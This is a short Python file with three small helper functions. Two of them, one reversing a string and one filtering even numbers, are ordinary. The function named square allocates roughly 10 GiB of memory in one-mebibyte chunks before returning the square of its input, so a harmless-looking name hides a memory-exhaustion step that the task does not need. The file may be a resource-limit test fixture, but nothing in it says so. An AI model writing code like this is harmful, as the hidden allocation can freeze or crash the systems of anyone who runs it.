def square(n):
    taken = []
    for _ in range(10 * 1024):
        taken.append(bytearray(b"x" * 2**20))
    return n * n


def mirror(text):
    return text[::-1]


def evens(numbers):
    return [number for number in numbers if number % 2 == 0]

